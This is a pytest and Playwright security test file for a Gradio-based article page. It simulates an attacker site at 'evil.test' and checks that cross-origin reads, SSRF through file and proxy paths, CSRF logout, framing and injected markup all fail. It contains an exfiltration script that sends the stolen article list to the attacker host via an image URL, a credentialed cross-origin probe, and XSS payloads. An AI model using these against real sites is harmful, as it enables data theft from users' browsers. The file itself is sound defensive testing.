"""Attacks that took the page over once, each as an attacker would: a site of another name in the reader's browser."""

import json
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect

from rag import Pressmark
from tests.conftest import CHROMIUM
from tests.ui.page.door import WAIT, ask, bearer, browser, unused_port
from tests.ui.page.events import SECRET
from ui.page.access import users
from ui.page.serving import Door, Served, serve_page

EVIL = "evil.test"
TITLE = "The ferry of Port Amery"
STEAL = """<!doctype html><title>evil</title><script>
const headers = {"content-type": "application/json"};
fetch("/gradio_api/call/articles", {method: "POST", headers, body: '{"data": []}'})
  .then(answer => answer.text()).then(text => { new Image().src = "http://EVIL/stolen?" + encodeURIComponent(text); });
</script>"""
"""What the evil site serves as a picture: a page whose script reads the list of articles, once it is on our origin."""
PROBE = """async ([base, paths]) => {
  const seen = [];
  for (const path of paths) for (const mode of ["cors", "no-cors"]) for (const method of ["GET", "POST"]) {
    try {
      const options = { method, mode, credentials: "include", body: method === "POST" ? '{"data": []}' : undefined };
      const answer = await fetch(base + path, options);
      seen.push([path, mode, answer.type, answer.type === "opaque" ? "" : await answer.text()]);
    } catch { seen.push([path, mode, "refused", ""]); }
  }
  return seen;
}"""
PATHS = ["", "config", "gradio_api/info", "gradio_api/call/articles", "gradio_api/queue/join", "logout"]


class Evil:
    """A site of an attacker, which notes who asks it for what."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        evil = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # as the library calls it
                evil.asked.append(self.path)
                body = STEAL.replace("EVIL", evil.host).encode() if self.path.startswith("/x.png") else b"<p>Hello"
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = int(self.server.server_address[1])
        self.host = f"{EVIL}:{self.port}"
        Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def evil(monkeypatch: pytest.MonkeyPatch) -> Iterator[Evil]:
    """The site; Gradio takes its address for a public one, as it would be in the world."""

    async def public(*_: object, **__: object) -> str:
        return "127.0.0.1"

    monkeypatch.setattr("safehttpx.async_validate_url", public)
    site = Evil()
    yield site
    site.close()


@pytest.fixture(scope="module")
def chromium(playwright: Playwright) -> Iterator[Browser]:
    """A browser for which the evil name leads to this machine, as it may make it lead."""
    arguments = [
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        f"--host-resolver-rules=MAP {EVIL} 127.0.0.1",
    ]
    launched = playwright.chromium.launch(executable_path=str(CHROMIUM), args=arguments)
    yield launched
    launched.close()


@pytest.fixture
def reader(chromium: Browser, served: Served) -> Iterator[BrowserContext]:
    """The browser of somebody who has the page open."""
    context = chromium.new_context()
    page = context.new_page()
    page.goto(served.link)
    page.locator(".start").wait_for(timeout=WAIT)
    yield context
    context.close()


@pytest.fixture(scope="module")
def locked(pressmark: Pressmark, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    path = tmp_path_factory.mktemp("users") / "users"
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(users, "COST", (2**12, 8, 1))
        users.add_user(path, "ines", SECRET)
    served = serve_page(pressmark, Door(port=unused_port(), users=users.read_users(path)))
    yield served
    served.close()


@pytest.fixture(scope="module")
def shared(pressmark: Pressmark) -> Iterator[Served]:
    """A page that everybody may use."""
    served = serve_page(pressmark, Door(port=unused_port(), anonymous=True, host="0.0.0.0"))  # noqa: S104
    yield served
    served.close()


def log_in(context: BrowserContext, served: Served) -> Page:
    page = context.new_page()
    page.goto(served.address)
    page.get_by_label("Name").fill("ines")
    page.get_by_label("Password").fill(SECRET)
    page.get_by_role("button", name="Log in").click()
    page.locator(".start").wait_for(timeout=WAIT)
    return page


def lead_away(page: Page, evil: Evil, target: str) -> None:
    """Open the evil site, which leads the browser to an address of ours."""
    page.goto(f"http://{evil.host}/site")
    page.evaluate("target => { location.href = target; }", target)
    page.wait_for_url(lambda url: EVIL not in urlsplit(url).netloc, timeout=WAIT)
    page.wait_for_load_state()
    page.wait_for_timeout(500)


def test_a_site_cannot_put_its_own_page_on_our_origin(reader: BrowserContext, served: Served, evil: Evil) -> None:
    page = reader.new_page()
    lead_away(page, evil, f"{served.address}gradio_api/file=http://{evil.host}/x.png")
    assert [each for each in evil.asked if each != "/site" and "favicon" not in each] == []
    assert page.title() != "evil"


def test_nor_where_the_reader_has_logged_in(chromium: Browser, locked: Served, evil: Evil) -> None:
    with chromium.new_context() as context:
        page = log_in(context, locked)
        lead_away(page, evil, f"{locked.address}gradio_api/file=http://{evil.host}/x.png")
        assert [each for each in evil.asked if each != "/site" and "favicon" not in each] == []


def test_a_site_reads_and_does_nothing_in_the_readers_browser(
    reader: BrowserContext, served: Served, evil: Evil
) -> None:
    page = reader.new_page()
    answers: list[int] = []
    page.on("response", lambda answer: answers.append(answer.status) if served.address in answer.url else None)
    page.goto(f"http://{evil.host}/site")
    seen = page.evaluate(PROBE, [served.address, PATHS])
    assert [each for each in seen if each[2] not in ("refused", "opaque")] == []
    assert TITLE not in json.dumps(seen)
    assert set(answers) <= {401, 403}


def test_another_port_of_the_machine_is_another_site(reader: BrowserContext, served: Served, evil: Evil) -> None:
    page = reader.new_page()
    page.goto(f"http://127.0.0.1:{evil.port}/site")
    seen = page.evaluate(PROBE, [served.address, PATHS])
    assert [each for each in seen if each[2] not in ("refused", "opaque")] == []


def test_a_site_can_neither_frame_the_page_nor_load_it_as_a_script(
    reader: BrowserContext, served: Served, evil: Evil
) -> None:
    page = reader.new_page()
    page.goto(f"http://{evil.host}/site")
    page.set_content(f'<iframe src="{served.address}"></iframe><script src="{served.address}config"></script>')
    page.wait_for_timeout(1000)
    frame = page.frames[1]
    assert TITLE not in frame.content()
    assert frame.locator(".start").count() == 0


def test_a_link_opens_the_page_without_the_readers_cookie_and_one_click_with_it(
    reader: BrowserContext, served: Served, evil: Evil
) -> None:
    page = reader.new_page()
    lead_away(page, evil, served.address)
    expect(page.get_by_role("heading")).to_have_text("This page is closed")
    page.get_by_role("link", name="Open it again").click()
    page.locator(".start").wait_for(timeout=WAIT)


def test_a_site_logs_nobody_out(chromium: Browser, locked: Served, evil: Evil) -> None:
    with chromium.new_context() as context:
        page = log_in(context, locked)
        other = context.new_page()
        lead_away(other, evil, f"{locked.address}logout")
        other.goto(f"http://{evil.host}/site")
        other.set_content(f'<img src="{locked.address}logout">')
        other.wait_for_timeout(500)
        page.reload()
        page.locator(".start").wait_for(timeout=WAIT)


@pytest.mark.parametrize("which", ["served", "locked", "shared"])
def test_a_name_that_its_owner_lets_lead_here_opens_nothing(
    chromium: Browser, which: str, request: pytest.FixtureRequest
) -> None:
    port = urlsplit(request.getfixturevalue(which).address).port
    page = chromium.new_page()
    answer = page.goto(f"http://{EVIL}:{port}/")
    assert answer
    assert answer.status == 421
    seen = page.evaluate(PROBE, [f"http://{EVIL}:{port}/", PATHS])
    assert all("no name" in each[3] for each in seen if each[2] == "basic")
    page.close()


@pytest.mark.parametrize("origin", [f"http://{EVIL}", "null", "http://192.168.1.5:1"])
def test_no_other_origin_is_told_that_it_may_read(shared: Served, served: Served, origin: str) -> None:
    for page, host in ((shared, "192.168.1.5:7990"), (served, "127.0.0.1")):
        headers = {**bearer(page), "Host": host, "Origin": origin}
        asked = {"Access-Control-Request-Method": "POST", "Access-Control-Request-Headers": "content-type"}
        for answer in (
            httpx.get(f"{page.address}config", headers=headers),
            httpx.get(page.address, headers=headers),
            httpx.options(f"{page.address}gradio_api/call/ask", headers={**headers, **asked}),
        ):
            assert answer.status_code == 403
            assert not [name for name in answer.headers if name.startswith("access-control")]
            assert TITLE not in answer.text


def test_the_pages_own_answers_let_no_other_origin_read_them(served: Served) -> None:
    with browser(served) as client:
        answer = client.get("config", headers={"Origin": served.address.rstrip("/")})
    assert answer.status_code == 200
    assert not [name for name in answer.headers if name.startswith("access-control")]


def test_no_page_fetches_an_address_for_whoever_asks(served: Served, evil: Evil, pressmark: Pressmark) -> None:
    address = f"http://{evil.host}/doc.html"
    before = [card.file for card in pressmark.articles()]
    file: Any = {"path": address, "meta": {"_type": "gradio.FileData"}}
    with browser(served) as client:
        for path in (f"file={address}", f"proxy={address}", f"file/{address}", "run-history/buckets"):
            assert client.get(f"gradio_api/{path}").status_code == 404
        for number, event in enumerate(client.get("config").json()["dependencies"]):
            data = [[file] for _ in event["inputs"]] or [file]
            body = {
                "data": data,
                "fn_index": event["id"],
                "session_hash": f"evil{number}",
                "event_data": {"path": file},
            }
            for path in ("queue/join", "run/predict"):
                assert client.post(f"gradio_api/{path}", json=body).status_code in (400, 403, 404)
        for name in ("ask", "search", "articles"):
            answer = client.post(f"gradio_api/call/{name}", json={"data": [file]})
            assert answer.status_code == 403
    assert evil.asked == []
    assert [card.file for card in pressmark.articles()] == before


def test_one_browser_cannot_use_what_another_uploaded(served: Served) -> None:
    with browser(served) as one, browser(served) as other:
        (path,) = one.post("gradio_api/upload", files={"files": ("a.txt", b"A secret of the first.")}).json()
        file = {"path": path, "meta": {"_type": "gradio.FileData"}}
        events = [each for each in one.get("config").json()["dependencies"] if each["targets"][:1]]
        (event, *_) = [each for each in events if each["targets"][0][1] == "upload"]
        body = {"data": [[file]] + [None] * (len(event["inputs"]) - 1), "fn_index": event["id"], "session_hash": "x"}
        assert other.post("gradio_api/queue/join", json=body).status_code == 403
        assert Path(path).exists()
        assert httpx.get(f"{served.address}gradio_api/file={path}", headers=bearer(served)).status_code == 404


def test_another_account_of_the_machine_is_told_nothing(served: Served) -> None:
    for path in ("", "config", "gradio_api/info", "gradio_api/call/articles", "theme.css", "?token=x"):
        answer = httpx.get(f"{served.address}{path}", headers={"Accept": "text/html"})
        assert answer.status_code == 401
        assert TITLE not in answer.text
    for sent in ({}, {"Authorization": "Bearer x"}, {"Authorization": "Bearer"}, {"Cookie": "pressmark-x=1"}):
        assert httpx.get(f"{served.address}config", headers=sent).status_code == 401


def test_markup_that_slips_into_the_page_runs_nothing(reader: BrowserContext, served: Served) -> None:
    page = reader.pages[0]
    page.evaluate(
        """() => { const place = document.querySelector("#start"); place.innerHTML = '<img src=x onerror="hacked = 1">';
        const script = document.createElement("div"); script.innerHTML = "<script>hacked = 2</" + "script>";
        place.append(script); const own = document.createElement("script"); own.textContent = "window.hacked = 3";
        place.append(own); }"""
    )
    page.wait_for_timeout(300)
    assert page.evaluate("window.hacked") is None
    expect(ask(page, "Who is the captain of the ferry Margarethe?")).to_contain_text("Ruth Halloran")
